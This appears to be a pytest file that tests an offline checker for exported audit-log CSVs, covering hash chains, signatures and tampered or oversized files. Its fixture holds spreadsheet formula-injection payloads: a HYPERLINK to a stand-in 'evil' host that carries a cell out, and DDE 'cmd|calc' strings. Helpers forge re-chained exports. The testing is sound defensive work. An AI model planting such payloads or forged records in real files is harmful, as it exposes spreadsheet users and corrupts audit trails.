"""An exported audit CSV checked on its own, without the database (`oficina/audit/offline.py`)."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.test import RequestFactory

from oficina.audit.models import ChainHead, Event
from oficina.audit.offline import csv_check
from oficina.audit.services import audit_seal, event_record
from tests.factories import make_member
from tests.test_backoffice_audit import EVENTS

pytestmark = pytest.mark.django_db


def exported(client, **filters: str) -> str:
    response = client.get(f"{EVENTS}exportar.csv", filters)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def events(db):
    """Events of every shape a cell can defuse or a JSON reader must read back: a formula-like user
    agent, semicolons and accents in the data, no member, no address."""
    member = make_member()
    agent = 'Mozilla/5.0 (X11;=HYPERLINK("http://evil/"&A1;"ver")) ;"+cmd|calc!A0'
    event_record("signin_failed", request=RequestFactory().post("/", HTTP_USER_AGENT=agent), member=member)
    event_record("staff_login_failed", operator="x;-2+cmd|'/c calc'!A0;@SUM(1)", nota="contraseña ñandú")
    event_record("signin_ok", member=member)
    event_record("signin_failed", request=RequestFactory().get("/", HTTP_USER_AGENT="=1+1"))
    assert audit_seal() >= 4


def test_a_whole_export_is_sound_and_chains_from_row_to_row(client, operator, events):
    text = exported(client)

    result = csv_check(text.splitlines(keepends=True))

    assert result.problems == [] and result.complete and result.sound
    assert result.unsealed == 0  # not the export's own event: the file holds what was there when asked
    assert result.linked == result.sealed - 1 and result.gaps == 0
    head = ChainHead.objects.get()
    assert result.newest == (head.last_seq, head.last_hash)


def test_a_changed_cell_is_found_and_named(client, operator, events):
    text = exported(client)
    assert "contraseña ñandú" in text

    result = csv_check(text.replace("contraseña ñandú", "contraseña nandu").splitlines(keepends=True))

    assert not result.sound
    assert len(result.problems) == 1 and "su contenido no corresponde a su hash" in result.problems[0]


def test_a_file_cut_short_is_not_sound(client, operator, events):
    lines = exported(client).splitlines(keepends=True)

    result = csv_check(lines[:-2])

    assert not result.sound
    assert "el archivo está incompleto" in " ".join(result.problems)


def test_a_row_moved_into_another_place_in_the_chain_breaks_the_link(client, operator, events):
    """Rows are checked against their `seq` order, not the file's: swapping two rows' seq numbers
    (to hide the order in which things happened) breaks the chain at both."""
    import csv
    import io

    text = exported(client)
    header, *rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    seq = header.index("seq")
    sealed = [row for row in rows if len(row) > seq and row[seq]]
    sealed[0][seq], sealed[1][seq] = sealed[1][seq], sealed[0][seq]
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])

    result = csv_check(out.getvalue().splitlines(keepends=True))

    assert any("no encadena con el evento anterior" in problem for problem in result.problems)


def test_a_filtered_export_is_sound_with_its_gaps_counted(client, operator, events):
    result = csv_check(exported(client, kind="signin_failed").splitlines(keepends=True))

    assert result.sound and result.sealed == 2 and result.gaps == 1 and result.linked == 0


def test_the_command_checks_a_file_and_shows_a_sealed_events_hash(client, operator, events, tmp_path):
    good = tmp_path / "eventos.csv"
    good.write_text(exported(client), encoding="utf-8")
    head = ChainHead.objects.get()
    out = _run("audit_verify", "--csv", str(good))
    assert "El archivo es íntegro." in out and head.last_hash in out
    assert head.last_hash in _run("audit_verify", "--seq", str(head.last_seq))

    bad = tmp_path / "alterado.csv"
    bad.write_text(good.read_text(encoding="utf-8").replace("signin_ok", "signin_OK"), encoding="utf-8")
    with pytest.raises(CommandError, match="NO es íntegro"):
        _run("audit_verify", "--csv", str(bad))
    with pytest.raises(CommandError, match="No se pudo leer"):
        _run("audit_verify", "--csv", str(tmp_path / "no-existe.csv"))
    with pytest.raises(CommandError, match="No hay un evento sellado"):
        _run("audit_verify", "--seq", "999999")


def test_the_checker_runs_on_the_file_alone_without_django(client, operator, events, tmp_path):
    """An auditor's machine: plain Python, the portal's source, no settings and no database."""
    path = tmp_path / "eventos.csv"
    path.write_text(exported(client), encoding="utf-8")
    code = (
        "import sys, runpy; sys.modules['django'] = None; sys.argv = ['offline', sys.argv[1]]; "
        "runpy.run_module('oficina.audit.offline', run_name='__main__')"
    )

    done = subprocess.run(
        [sys.executable, "-c", code, str(path)],
        capture_output=True,
        text=True,
        cwd=Path(settings.BASE_DIR),
        env={"PATH": "/usr/bin:/bin"},
        timeout=60,
    )

    assert done.returncode == 0, done.stderr
    assert "El archivo es íntegro." in done.stdout


def _run(*args: str) -> str:
    import io

    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def test_a_sealed_row_with_its_seal_blanked_in_the_file_is_not_passed_off_as_unsealed(
    client,
    operator,
    events,
):
    """Blanking an edited row's seq and hashes made it read as "sin sellar (no se verifican)" beside a
    gap, and the file passed. An event waits for its seal seconds; one made an hour before events that
    are sealed had its seal removed."""
    import csv
    import io
    from datetime import datetime, timedelta

    text = exported(client)
    header, *rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    col = {name: header.index(name) for name in ("created_at", "seq", "prev_hash", "hash", "kind")}
    edited = next(row for row in rows if len(row) > col["hash"] and row[col["kind"]] == "signin_ok")
    edited[col["kind"]] = "signin_failed"
    edited[col["seq"]] = edited[col["prev_hash"]] = edited[col["hash"]] = ""
    newest = max(datetime.fromisoformat(row[col["created_at"]]) for row in rows if len(row) > col["hash"])
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    assert csv_check(out.getvalue().splitlines(keepends=True)).sound  # recent: it may be waiting
    edited[col["created_at"]] = (newest - timedelta(hours=2)).isoformat()
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])

    result = csv_check(out.getvalue().splitlines(keepends=True))

    assert not result.sound
    assert any("se le quitó el sello en el archivo" in problem for problem in result.problems)


def _rechained(text: str, edit: Callable[[list[str], dict[str, int]], None]) -> str:
    """The export after `edit` changed its rows, with every sealed row's hash recomputed after it: what
    someone forging the file would hand over. The hashes alone no longer tell it from an export."""
    import csv
    import io

    from oficina.audit.offline import _body, event_hash

    body, _, last = text.removeprefix("\ufeff").rstrip("\r\n").rpartition("\n")
    header, *rows = list(csv.reader(io.StringIO(body)))
    col = {name: i for i, name in enumerate(header)}
    for row in rows:
        edit(row, col)
    previous = None
    for row in sorted((r for r in rows if r[col["seq"]]), key=lambda r: int(r[col["seq"]])):
        if previous is not None:
            row[col["prev_hash"]] = previous
        row[col["hash"]] = previous = event_hash(
            row[col["prev_hash"]], _body(dict(zip(header, row, strict=True)))
        )
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    return out.getvalue() + last + "\n"


def test_on_the_server_a_forged_file_is_told_by_its_signatures(client, operator, events, tmp_path):
    """Without the key (`python -m oficina.audit.offline`) a file edited and re-chained from the edit
    on is sound as far as its hashes go; the server holds the key and checks each row's `firma`."""
    text = exported(client)
    good = tmp_path / "eventos.csv"
    good.write_text(text, encoding="utf-8")
    out = _run("audit_verify", "--csv", str(good))
    assert "El archivo es íntegro." in out
    assert f"{Event.objects.exclude(seq=None).count()} eventos con firma válida" in out

    def downgrade(row: list[str], col: dict[str, int]) -> None:
        row[col["kind"]] = row[col["kind"]].replace("signin_ok", "signin_failed")

    forged = tmp_path / "forjado.csv"
    forged.write_text(_rechained(text, downgrade), encoding="utf-8")
    assert csv_check(forged.read_text(encoding="utf-8").splitlines(keepends=True)).sound
    with pytest.raises(CommandError, match="NO es íntegro"):
        _run("audit_verify", "--csv", str(forged))
    assert "no tiene una firma válida" in _output("audit_verify", "--csv", str(forged))

    def unsigned(row: list[str], col: dict[str, int]) -> None:
        row[col["firma"]] = ""

    blanked = tmp_path / "sin-firma.csv"
    blanked.write_text(_rechained(text, unsigned), encoding="utf-8")
    assert "no tiene firma" in _output("audit_verify", "--csv", str(blanked))

    first: list[str] = []
    content = ("created_at", "kind", "member_id", "document_hmac", "ip", "data", "user_agent_exacto", "firma")

    def copied(row: list[str], col: dict[str, int]) -> None:
        """Every row becomes a copy of the first, signature included."""
        first[:] = first or row[:]
        for name in content:
            row[col[name]] = first[col[name]]

    twice = tmp_path / "repetido.csv"
    twice.write_text(_rechained(text, copied), encoding="utf-8")
    assert "repite la firma de otro evento" in _output("audit_verify", "--csv", str(twice))


def test_a_file_without_the_signature_column_is_not_passed_on_the_server(client, operator, events, tmp_path):
    import csv
    import io

    text = exported(client)
    body, _, last = text.removeprefix("\ufeff").rstrip("\r\n").rpartition("\n")
    rows = [row[:-1] for row in csv.reader(io.StringIO(body))]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    old = tmp_path / "sin-columna.csv"
    old.write_text(out.getvalue() + last + "\n", encoding="utf-8")

    assert csv_check(old.read_text(encoding="utf-8").splitlines(keepends=True)).sound  # no key here
    assert "le falta la columna firma" in _output("audit_verify", "--csv", str(old))


def _output(*args: str) -> str:
    """What the command printed, when it ends in an error as well."""
    import io

    out = io.StringIO()
    with pytest.raises(CommandError):
        call_command(*args, stdout=out)
    return out.getvalue()


def test_on_the_server_a_row_taken_out_and_the_rest_renumbered_is_not_passed(
    client,
    operator,
    events,
    tmp_path,
):
    """Every row that is left keeps its own signature (it covers the content, not the place in the
    chain): an event taken out of a whole export, the rows after it numbered down and re-chained,
    passed on the server as a sound export. The server holds the chain: each sealed row's `seq` must
    have that hash there. (Review, 2026-12-06.)"""
    import csv
    import io

    from oficina.audit.offline import _body, event_hash

    body, _, _last = exported(client).removeprefix("\ufeff").rstrip("\r\n").rpartition("\n")
    header, *rows = list(csv.reader(io.StringIO(body)))
    col = {name: i for i, name in enumerate(header)}
    rows.sort(key=lambda r: int(r[col["seq"]]))
    gone = next(i for i, row in enumerate(rows) if row[col["kind"]] == "signin_ok" and i > 0)
    del rows[gone]
    for row in rows[gone:]:
        row[col["seq"]] = str(int(row[col["seq"]]) - 1)
        previous = rows[rows.index(row) - 1][col["hash"]]
        row[col["prev_hash"]] = previous
        row[col["hash"]] = event_hash(previous, _body(dict(zip(header, row, strict=True))))
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    forged = tmp_path / "sin-un-evento.csv"
    forged.write_text(out.getvalue() + f"# fin del archivo: {len(rows)} filas\r\n", encoding="utf-8")

    assert csv_check(forged.read_text(encoding="utf-8").splitlines(keepends=True)).sound  # no key here
    printed = _output("audit_verify", "--csv", str(forged))
    assert "su hash no es el de ese n.º en la cadena del servidor" in printed
    assert "El archivo NO es íntegro." in printed


def test_on_the_server_a_row_made_up_under_a_seq_from_before_signatures_is_not_passed(
    client,
    operator,
    events,
    tmp_path,
):
    """Rows sealed before `signed_from_seq` may carry no signature: a row made up without `firma` under
    such a `seq`, in a filtered export's gap and chained to the row before it, passed on the server,
    and the newest hash, which an auditor compares, was still the real one. (Review, 2026-12-06.)"""
    import csv
    import io

    from oficina.audit.offline import _body, event_hash

    text = exported(client, kind="signin_failed")
    body, _, _last = text.removeprefix("\ufeff").rstrip("\r\n").rpartition("\n")
    header, *rows = list(csv.reader(io.StringIO(body)))
    col = {name: i for i, name in enumerate(header)}
    rows.sort(key=lambda r: int(r[col["seq"]]))
    before, after = rows[0], rows[1]
    assert int(after[col["seq"]]) - int(before[col["seq"]]) > 2  # a gap a row fits in, unlinked after it
    # A deployment that signs from a later event on (the events before it came from an older version).
    ChainHead.objects.update(signed_from_seq=int(after[col["seq"]]) + 1)
    made_up = dict(zip(header, before, strict=True))
    made_up.update(id="999999", seq=str(int(before[col["seq"]]) + 1), kind="signin_ok", firma="")
    made_up["prev_hash"] = before[col["hash"]]
    made_up["hash"] = event_hash(made_up["prev_hash"], _body(made_up))
    out = io.StringIO()
    csv.writer(out).writerows([header, before, [made_up[name] for name in header], after])
    forged = tmp_path / "inventado.csv"
    forged.write_text(out.getvalue() + "# fin del archivo: 3 filas\r\n", encoding="utf-8")
    real = tmp_path / "eventos.csv"
    real.write_text(text, encoding="utf-8")
    assert "El archivo es íntegro." in _run("audit_verify", "--csv", str(real))

    printed = _output("audit_verify", "--csv", str(forged))

    assert "evento 999999: su hash no es el de ese n.º en la cadena del servidor" in printed


def _hostile(text: str, how: str) -> str:
    import csv
    import io

    body, _, last = text.removeprefix("\ufeff").rstrip("\r\n").rpartition("\n")
    header, *rows = list(csv.reader(io.StringIO(body)))
    if how == "a cell past the csv module's limit":
        rows[0][header.index("user_agent")] = "a" * 200_000
    else:  # a seq past any database integer
        rows[0][header.index("seq")] = "9" * 25
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    return out.getvalue() + last + "\n"


@pytest.mark.parametrize("how", ["a cell past the csv module's limit", "a seq past any database integer"])
def test_a_hostile_file_gets_a_verdict_not_a_traceback(client, operator, events, tmp_path, how):
    """A file handed to the auditor is not to be trusted: a cell of 200,000 characters (Python's csv
    refuses past 131,072) or a `seq` no database integer holds ended the check, offline and on the
    server, in a traceback (csv.Error, or SQLite's OverflowError) instead of «El archivo NO es
    íntegro»."""
    path = tmp_path / "eventos.csv"
    path.write_text(_hostile(exported(client), how), encoding="utf-8")

    result = csv_check(path.read_text(encoding="utf-8").splitlines(keepends=True))

    assert not result.sound and result.problems
    assert "El archivo NO es íntegro." in _output("audit_verify", "--csv", str(path))


def test_the_checker_says_so_when_it_cannot_read_the_file(tmp_path):
    """A file that is not UTF-8 (opened and saved again by a spreadsheet) or is not there: a sentence
    and exit code 2, not a traceback."""
    latin1 = tmp_path / "guardado-en-excel.csv"
    latin1.write_bytes("id,seq\n1,contraseña\n".encode("latin-1"))

    for path in (latin1, tmp_path / "no-existe.csv"):
        done = subprocess.run(
            [sys.executable, "-m", "oficina.audit.offline", str(path)],
            capture_output=True,
            text=True,
            cwd=Path(settings.BASE_DIR),
            env={"PATH": "/usr/bin:/bin"},
            timeout=60,
        )

        assert done.returncode == 2 and "Traceback" not in done.stderr
        assert f"No se pudo leer {path}" in done.stderr
